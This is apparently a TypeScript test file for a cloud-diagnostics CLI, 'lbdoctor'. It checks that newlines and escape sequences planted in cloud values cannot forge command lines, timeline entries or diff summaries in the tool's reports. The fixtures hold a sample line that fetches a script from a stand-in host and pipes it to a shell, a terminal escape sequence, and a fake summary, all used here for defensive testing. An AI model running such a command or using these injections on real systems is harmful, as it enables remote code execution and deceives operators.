/**
 * A value from the cloud or a snapshot (a caller's name, a tag value, a rule's name) that holds a newline must not
 * start a line of its own in a plain-text report: it could pass for one of lbdoctor's lines, a `$ curl … | sh`
 * under a fix, a forged timeline entry or a diff summary. And a timeline written to a file (`timeline -o`) is as
 * free of escape sequences as the one printed on a terminal.
 */
import assert from "node:assert/strict";
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, it } from "node:test";
import { fixture, lbdoctor } from "./support/cli.ts";

const dir = mkdtempSync(join(tmpdir(), "lbdoctor-lines-"));
const FORGED = "      $ curl https://evil.example/x | sh";

/** The nsg-change-probe-down incident with a hostile caller on the change that broke it, and a hostile tag value. */
function hostileIncident(): string {
  const doc = JSON.parse(readFileSync(fixture("nsg-change-probe-down"), "utf8"));
  const rows = Object.values(doc.observations.resourceChanges)[0] as Array<{
    properties: { changeAttributes: { changedBy: string }; changes: Record<string, { previousValue?: unknown }> };
  }>;
  const cause = rows.find((r) => r.properties.changes["properties.securityRules[2].name"]);
  assert.ok(cause);
  cause.properties.changeAttributes.changedBy = `alice\n${FORGED}\n  03:00    change  \u001b]0;pwned\u0007fake entry`;
  const tag = rows.find((r) => r.properties.changes["tags.costCenter"]);
  assert.ok(tag);
  (tag.properties.changes["tags.costCenter"] as { previousValue: string }).previousValue = `web\n${FORGED}`;
  const file = join(dir, "hostile-incident.json");
  writeFileSync(file, JSON.stringify(doc));
  return file;
}

/** Lines that start like a printed command or a timeline entry, other than the ones lbdoctor prints. */
function forged(text: string): string[] {
  return text.split("\n").filter((l) => l.includes("evil.example") && /^\s*\$ /.test(l));
}

describe("a newline in a cloud value never starts a line of a text report", () => {
  const file = hostileIncident();

  it("check (text): the caller's newline is shown as \\x0a, and no forged command line appears under the fix", () => {
    const r = lbdoctor(["check", "--snapshot", file]);
    assert.equal(r.code, 1, r.stderr);
    assert.deepEqual(forged(r.stdout), []);
    assert.match(r.stdout, /alice\\x0a {6}\$ curl/);
  });

  it("check (github): an annotation's lines are lbdoctor's; the caller's newline cannot add a `$ …` line under Fix", () => {
    const r = lbdoctor(["check", "--snapshot", file, "-f", "github"]);
    assert.equal(r.code, 1, r.stderr);
    // the runner turns %0A back into newlines: the annotation as GitHub shows it
    const shown = r.stdout.split("\n").flatMap((l) => l.split("%0A"));
    assert.deepEqual(forged(shown.join("\n")), []);
    assert.ok(shown.some((l) => l.includes("alice\\x0a")));
  });

  it("check (junit): the failure's text has no forged `$ …` line either", () => {
    const r = lbdoctor(["check", "--snapshot", file, "-f", "junit"]);
    assert.equal(r.code, 1, r.stderr);
    const bodies = [...r.stdout.matchAll(/<failure [^>]*>([^<]*)<\/failure>/g)].map((m) => m[1] as string);
    assert.ok(bodies.some((b) => b.includes("alice\\x0a")));
    for (const b of bodies) assert.deepEqual(forged(b), []);
  });

  it("timeline (text, stdout and -o): no forged line, no forged entry, no escape sequence in the file", () => {
    const r = lbdoctor(["timeline", "--snapshot", file]);
    assert.equal(r.code, 0, r.stderr);
    assert.deepEqual(forged(r.stdout), []);
    assert.ok(!r.stdout.split("\n").some((l) => /^ {2}03:00 {4}change {2}/.test(l)), "a forged timeline entry");
    const out = join(dir, "timeline.txt");
    const w = lbdoctor(["timeline", "--snapshot", file, "-o", out]);
    assert.equal(w.code, 0, w.stderr);
    const text = readFileSync(out, "utf8");
    assert.deepEqual(forged(text), []);
    assert.doesNotMatch(text, /\u001b/, "an escape sequence from the snapshot reached the file");
    assert.match(text, /by alice\\x0a/);
  });

  it("diff (text): a name with newlines cannot print a fake summary", () => {
    const before = fixture("demo");
    const doc = JSON.parse(readFileSync(before, "utf8"));
    const nsg = doc.resources.find((r: { type: string }) => /networkSecurityGroups$/i.test(r.type));
    nsg.properties.securityRules[0].name = "x\n\nSummary: 0 changed (0 properties), 0 added, 0 removed";
    const after = join(dir, "renamed.json");
    writeFileSync(after, JSON.stringify(doc));
    const r = lbdoctor(["diff", before, after]);
    assert.equal(r.code, 1, r.stderr);
    assert.equal(r.stdout.split("\n").filter((l) => l.startsWith("Summary:")).length, 1, r.stdout);
  });
});
